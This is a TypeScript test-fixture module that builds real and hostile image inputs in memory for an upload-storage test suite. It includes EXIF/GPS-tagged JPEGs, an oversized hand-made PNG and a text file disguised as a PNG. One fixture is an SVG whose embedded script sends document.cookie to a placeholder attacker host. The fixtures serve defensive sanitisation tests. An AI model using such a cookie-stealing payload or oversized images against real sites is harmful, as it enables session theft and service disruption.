import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { expect } from 'vitest';
import { AppError } from '../lib/app-error.js';

// Real image bytes (and hostile non-images) for the storage tests, built in memory.

export async function solidPng(width: number, height: number, background: string): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background } })
    .png()
    .toBuffer();
}

export async function solidJpeg(width: number, height: number, background: string): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background } })
    .jpeg()
    .toBuffer();
}

export async function noiseJpeg(width: number, height: number): Promise<Buffer> {
  return sharp({
    create: {
      width,
      height,
      channels: 3,
      background: 'black',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer();
}

/**
 * A 40×20 JPEG (left half red, right half blue) tagged EXIF orientation 6 ("rotate 90° clockwise
 * to display") and carrying a camera make and GPS coordinates that must not survive processing.
 */
export async function jpegWithOrientationAndGps(): Promise<Buffer> {
  const width = 40;
  const height = 20;
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const offset = (y * width + x) * 3;
      if (x < width / 2) pixels[offset] = 255;
      else pixels[offset + 2] = 255;
    }
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'SpyCam', Model: 'Leaky 3000' },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '23/1 33/1 0/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '46/1 38/1 0/1',
      },
    })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A PNG assembled by hand: 1-bit greyscale, so even 20000×20000 is only 50 MB of zero
 * scanlines before deflate (~50 KB after). With `idat` given, the pixel data is that garbage
 * instead, so only the header is valid: a decoder would fail on it.
 */
export function handmadePng(width: number, height: number, idat?: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // colour type: greyscale
  const scanlines = () => deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))), { level: 9 });
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', idat ?? scanlines()),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
    '<rect width="100" height="100" fill="red"/></svg>',
);

export const TEXT_FILE = Buffer.from(
  'Olá! Isto é um arquivo de texto com a extensão .png, não uma imagem.\n',
);

export async function makeTempDir(): Promise<{ dir: string; cleanup: () => Promise<void> }> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'storage-test-'));
  return { dir, cleanup: () => rm(dir, { recursive: true, force: true }) };
}

/** Awaits `promise`, expecting it to reject with an AppError of that status and message. */
export async function expectAppError(
  promise: Promise<unknown>,
  status: number,
  message: string,
): Promise<void> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(AppError);
  expect((error as AppError).status).toBe(status);
  expect((error as AppError).message).toBe(message);
}
